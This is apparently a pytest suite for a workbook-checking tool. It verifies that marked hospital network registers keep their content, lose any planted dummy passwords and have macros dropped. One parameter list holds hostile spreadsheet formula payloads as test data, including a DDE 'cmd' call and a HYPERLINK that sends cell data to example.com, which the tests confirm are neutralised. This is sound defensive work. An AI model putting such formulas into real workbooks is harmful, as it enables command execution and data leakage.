"""The same workbook back: problems marked, listed and linked; credentials gone; nothing else changed."""

import io
import zipfile
from collections.abc import Callable
from dataclasses import replace

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.drawing.image import Image
from openpyxl.styles import Font
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from PIL import Image as Picture

from sekisho.adapters.workbooks import styles
from sekisho.adapters.workbooks.check import check_workbook
from sekisho.adapters.workbooks.mark import mark_problems, marked
from sekisho.adapters.workbooks.refusals import Refusal, UnreadableWorkbook
from sekisho.adapters.workbooks.write import write_prefilled
from sekisho.catalogue.workbooks import load_edition
from sekisho.domain.register.diff import compare, to_register
from sekisho.domain.register.records import Line, Register
from sekisho.domain.text import Text
from sekisho.domain.workbook.schema import Problem, Severity

EDITION = load_edition()
LINES, BASIC, PLACES = (EDITION.sheet(key).title.ja for key in ("lines", "basic", "places"))
SECRET = "Hx7!kuruma-9"
FLAWED = Line(
    1, "01JB-1", "wanted", "wanted", "yes", "ehr", "optical", communication="internet_vpn", global_ip="yes",
    address_assignment="fixed", global_address="10.0.0.1", terminator_location="本館 3F",
)  # fmt: skip
Change = Callable[[openpyxl.Workbook], object]


def workbook(*changes: Change, register: Register | None = None) -> bytes:
    """Return a prefilled workbook after what a person did to it."""
    target = io.BytesIO()
    write_prefilled(target, EDITION, register or Register(lines=(FLAWED,)), "H001")
    if not changes:
        return target.getvalue()
    book = openpyxl.load_workbook(target)
    for change in changes:
        change(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def checked_and_marked(content: bytes) -> tuple[openpyxl.Workbook, bytes, tuple[Problem, ...]]:
    problems = check_workbook(content).problems
    result = marked(content, problems)
    return openpyxl.load_workbook(io.BytesIO(result)), result, problems


def links_of(ws) -> set[str]:
    return {cell.hyperlink.location for row in ws.iter_rows() for cell in row if cell.hyperlink}


def all_bytes(content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return b"\n".join(archive.read(name) for name in archive.namelist()) + "\n".join(archive.namelist()).encode()


def test_problem_cell_is_coloured_and_explained():
    book, _, _ = checked_and_marked(workbook())
    cell = book[LINES]["N9"]
    assert cell.value == "10.0.0.1"
    assert cell.fill.start_color.rgb == styles.ERROR_FILL.start_color.rgb
    assert "病院の内側のアドレス" in cell.comment.text
    assert book[LINES]["M9"].comment is None


def test_warning_has_another_colour_than_an_error():
    book, _, _ = checked_and_marked(workbook())
    assert book[LINES]["H9"].fill.start_color.rgb == styles.WARNING_FILL.start_color.rgb


def test_leading_sheet_lists_every_problem_with_a_link_to_its_cell():
    book, _, problems = checked_and_marked(workbook())
    ws = book.worksheets[0]
    assert ws.title == "確認結果"
    assert book.active.title == "確認結果"
    rows = [row for row in ws.iter_rows(values_only=True) if str(row[0] or "").isdigit()]
    assert [(row[2], row[3] or "", row[6]) for row in rows] == [(p.sheet, p.cell, p.message.ja) for p in problems]
    links = links_of(ws)
    assert f"'{LINES}'!N9" in links
    assert f"'{PLACES}'!A1" in links
    assert len(links) <= len(problems)


def test_kind_of_problem_is_told_by_word_and_shape_and_colour():
    book, _, problems = checked_and_marked(workbook())
    ws = book.worksheets[0]
    kinds = {row[1] for row in ws.iter_rows(values_only=True) if str(row[0] or "").isdigit()}
    assert kinds == {"■ 直してください", "▲ ご確認ください"}
    errors = sum(p.severity is Severity.ERROR for p in problems)
    assert f"■ 直してください {errors}件" in ws["A2"].value


def test_marked_workbook_reads_back_as_the_original():
    content = workbook()
    before, after = check_workbook(content), check_workbook(marked(content, check_workbook(content).problems))
    assert to_register(after.book) == to_register(before.book)
    assert [(p.sheet, p.cell, p.rule) for p in after.problems] == [(p.sheet, p.cell, p.rule) for p in before.problems]
    assert compare(EDITION, to_register(before.book), after.book).changes_nothing


def test_same_file_and_problems_give_the_same_bytes():
    content = workbook()
    problems = check_workbook(content).problems
    assert marked(content, problems) == marked(content, problems)


def test_marking_again_shows_the_new_state_only():
    content = workbook()
    first = marked(content, check_workbook(content).problems)
    book = openpyxl.load_workbook(io.BytesIO(first))
    book[LINES]["N9"].value = "121.119.249.222"
    out = io.BytesIO()
    book.save(out)
    again, _, problems = checked_and_marked(out.getvalue())
    assert again.sheetnames.count("確認結果") == 1
    assert not any(p.cell == "N9" for p in problems)
    assert again[LINES]["N9"].comment is None
    assert again[LINES]["N9"].fill.fill_type is None
    assert again[LINES]["H9"].comment.text.count("【確認】") == 1


def test_workbook_without_problems_says_so():
    book = openpyxl.load_workbook(io.BytesIO(marked(workbook(), ())))
    assert "問題は見つかりませんでした" in book.worksheets[0]["A2"].value


def test_styles_widths_comments_pull_downs_and_pictures_stay():
    def dress(book):
        ws = book[LINES]
        ws["E9"].font = Font(bold=True, color="00FF00")
        ws["E9"].comment = Comment("総務課に確認済み", "山田")
        ws.column_dimensions["E"].width = 33
        picture = io.BytesIO()
        Picture.new("RGB", (40, 30), "red").save(picture, "PNG")
        book[PLACES].add_image(Image(picture), "F6")

    content = workbook(dress)
    book, _, _ = checked_and_marked(content)
    ws = book[LINES]
    assert ws["E9"].font.bold
    assert ws["E9"].comment.text == "総務課に確認済み"
    assert ws.column_dimensions["E"].width == 33
    assert len(ws.data_validations.dataValidation) == len(
        openpyxl.load_workbook(io.BytesIO(content))[LINES].data_validations.dataValidation
    )
    assert len(book[PLACES]._images) == 1


def test_own_note_on_a_problem_cell_stays_below_ours():
    def note(book):
        book[LINES]["N9"].comment = Comment("山田より: 要確認", "山田")

    book, _, _ = checked_and_marked(workbook(note))
    text = book[LINES]["N9"].comment.text
    assert text.startswith("【確認】")
    assert text.endswith("山田より: 要確認")


def test_problem_inside_merged_cells_marks_the_first_of_them():
    problem = Problem(LINES, "C10", "x", Severity.ERROR, Text("直してください。", "Mend."))
    content = marked(workbook(lambda book: book[LINES].merge_cells("B10:C11")), [problem])
    assert openpyxl.load_workbook(io.BytesIO(content))[LINES]["B10"].comment


def test_problem_of_a_sheet_that_is_not_there_is_listed_without_a_link():
    problem = Problem("無いシート", "B2", "x", Severity.ERROR, Text("直してください。", "Mend."))
    ws = openpyxl.load_workbook(io.BytesIO(marked(workbook(), [problem]))).worksheets[0]
    assert ws.title == "確認結果"
    assert links_of(ws) == set()


def test_text_in_the_list_is_never_a_formula():
    problems = [
        Problem(LINES, "C9", "x", Severity.ERROR, Text("=1+1", "=1+1"), value=value)
        for value in ("=1+1", "+1", "@A1", "\t=1")
    ]
    ws = openpyxl.load_workbook(io.BytesIO(marked(workbook(), problems))).worksheets[0]
    assert not [cell for row in ws.iter_rows() for cell in row if cell.data_type == "f"]


def test_macros_are_dropped_and_the_reader_told():
    def with_macro(content: bytes) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w") as new:
            for name in old.namelist():
                new.writestr(name, old.read(name))
            new.writestr("xl/vbaProject.bin", b"\x00macro")
        return out.getvalue()

    book, result, _ = checked_and_marked(with_macro(workbook()))
    assert b"macro" not in all_bytes(result).lower().replace("マクロ".encode(), b"")
    assert any("マクロ" in str(row[0]) for row in book.worksheets[0].iter_rows(values_only=True))


# Credentials


def put(sheet: str, cell: str, value: object) -> Change:
    def change(book: openpyxl.Workbook) -> None:
        book[sheet][cell] = value

    return change


def account_sheet(title: str) -> Change:
    def change(book: openpyxl.Workbook) -> None:
        ws = book.create_sheet(title)
        for row in (
            ["メーカー", "機種名", "アカウント/ログインID", "パスワード"],
            ["Cisco", "ISR 921", "admin", SECRET],
        ):
            ws.append(row)

    return change


def extra_column(book: openpyxl.Workbook) -> None:
    ws = book[LINES]
    ws["AQ5"], ws["AQ9"] = "ログインパスワード", SECRET


def hidden_note(book: openpyxl.Workbook) -> None:
    book[LINES]["E9"].comment = Comment(f"パスワード: {SECRET}", "山田")


def name_of_a_constant(book: openpyxl.Workbook) -> None:
    book.defined_names["pw"] = DefinedName("pw", attr_text=f'"{SECRET}"')


def prompt(book: openpyxl.Workbook) -> None:
    validation = DataValidation(type="textLength", operator="lessThan", formula1="9", showInputMessage=True)
    validation.prompt = f"パスワード：{SECRET}"
    validation.add("A60")
    book[LINES].add_data_validation(validation)


def footer(book: openpyxl.Workbook) -> None:
    book[LINES].oddFooter.left.text = f"PW: {SECRET}"


def properties(book: openpyxl.Workbook) -> None:
    book.properties.description = f"パスワード {SECRET}"
    book.properties.keywords = SECRET


def lone_label(book: openpyxl.Workbook) -> None:
    book[BASIC]["B40"], book[BASIC]["C40"] = "ルータのパスワード", SECRET
    book[BASIC]["B40"] = "パスワード"


HIDEOUTS: dict[str, Change] = {
    "the sheet that is not handed in": account_sheet("アカウント（ログインID）・パスワードリスト"),
    "a sheet by another name": account_sheet("ID・PW"),
    "accounts on a sheet of a harmless name": account_sheet("メモ"),
    "a column of its own": extra_column,
    "a remark": put(LINES, "X9", f"管理画面 ID: admin / PW: {SECRET}"),
    "a sentence": put(LINES, "X9", f"パスワードは{SECRET}です"),
    "a label with its value": lone_label,
    "a note on a cell": hidden_note,
    "a formula": put(LINES, "X9", f'="PW: "&"{SECRET}"'),
    "a name": name_of_a_constant,
    "an input message": prompt,
    "a footer": footer,
    "the properties": properties,
    "a formula in a column of accounts": lambda book: (extra_column(book), put(LINES, "AQ9", f'="{SECRET}"&""')(book)),
}


@pytest.mark.parametrize("change", HIDEOUTS.values(), ids=HIDEOUTS.keys())
def test_credentials_never_survive_in_the_marked_file(change):
    content = workbook(change)
    assert SECRET.encode() in all_bytes(content).replace(b"&quot;", b'"')
    _, result, _ = checked_and_marked(content)
    assert SECRET.encode() not in all_bytes(result)


@pytest.mark.parametrize("change", HIDEOUTS.values(), ids=HIDEOUTS.keys())
def test_credentials_do_not_survive_even_when_nobody_told_of_them(change):
    assert SECRET.encode() not in all_bytes(marked(workbook(change), ()))


def test_removed_account_sheet_is_told():
    book, _, _ = checked_and_marked(workbook(account_sheet("アカウント（ログインID）・パスワードリスト")))
    assert not any("パスワード" in title for title in book.sheetnames)
    assert any("取り除きました" in str(row[0]) for row in book.worksheets[0].iter_rows(values_only=True))


def test_workbook_of_nothing_but_accounts_is_marked_as_an_empty_one():
    book = openpyxl.Workbook()
    book.worksheets[0].title = "パスワード一覧"
    book.worksheets[0].append(["アカウント", SECRET])
    out = io.BytesIO()
    book.save(out)
    assert SECRET.encode() not in all_bytes(marked(out.getvalue(), ()))


# Formulas of strangers

REACHING_OUT = [
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.com?x="&A1,"click")', '=WEBSERVICE("http://example.com")',
    "='[other.xlsx]Sheet1'!A1", '=CALL("user32","x","J")', "=DDE(\"cmd\",\"x\")", '=RTD("a",,"b")', '=IMAGE("https://example.com/x.png")',
]  # fmt: skip


@pytest.mark.parametrize("formula", REACHING_OUT)
def test_formula_that_reaches_out_of_the_file_becomes_text(formula):
    content = marked(workbook(put(LINES, "X9", formula)), ())
    assert openpyxl.load_workbook(io.BytesIO(content))[LINES]["X9"].data_type != "f"


@pytest.mark.parametrize("formula", ["=A9&B9", "=SUM(1,2)", f"='{BASIC}'!C10", '=IF(A1="","",A1)'])
def test_ordinary_formula_stays(formula):
    content = marked(workbook(put(LINES, "X9", formula)), ())
    assert openpyxl.load_workbook(io.BytesIO(content))[LINES]["X9"].value == formula


def test_label_of_the_floor_plan_still_shows_its_text():
    content = marked(workbook(), ())
    shown = openpyxl.load_workbook(io.BytesIO(content), data_only=True)[PLACES]["B5"].value
    assert shown == "回線1 電子カルテ 本館 3F"


# Files that cannot be marked


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04 broken", b"a,b\n1,2\n", b"\x00" * 100, workbook()[:2000]])
def test_file_that_cannot_be_read_is_refused_and_nothing_is_written(content, tmp_path):
    target = tmp_path / "out.xlsx"
    with pytest.raises(UnreadableWorkbook):
        mark_problems(content, (), target)
    assert not target.exists()


def test_file_that_passes_the_gate_but_not_openpyxl_is_refused_by_type():
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook())) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            content = old.read(name)
            new.writestr(
                name,
                content.replace(b"<cellXfs", b"<cellXfs bogus='1' count='x'><nonsense/", 1)
                if name == "xl/styles.xml"
                else content,
            )
    with pytest.raises(UnreadableWorkbook) as caught:
        marked(out.getvalue(), ())
    assert caught.value.refusal in (Refusal.CANNOT_MARK, Refusal.DAMAGED, Refusal.TRUNCATED, Refusal.NOT_EXCEL)
    assert caught.value.text.en


def test_path_in_and_path_out(tmp_path):
    source, target = tmp_path / "in.xlsx", tmp_path / "out.xlsx"
    source.write_bytes(workbook())
    problems = check_workbook(source).problems
    mark_problems(source, problems, target)
    assert target.read_bytes() == marked(source, problems)


def test_hundred_lines_with_a_thousand_problems_are_all_listed():
    lines = tuple(
        replace(FLAWED, number=n, row_id=f"L{n}", purpose=None, terminator_location=None) for n in range(1, 101)
    )
    content = workbook(register=Register(lines=lines))
    book, _, problems = checked_and_marked(content)
    assert len(problems) > 600
    assert sum(str(row[0] or "").isdigit() for row in book.worksheets[0].iter_rows(values_only=True)) == len(problems)
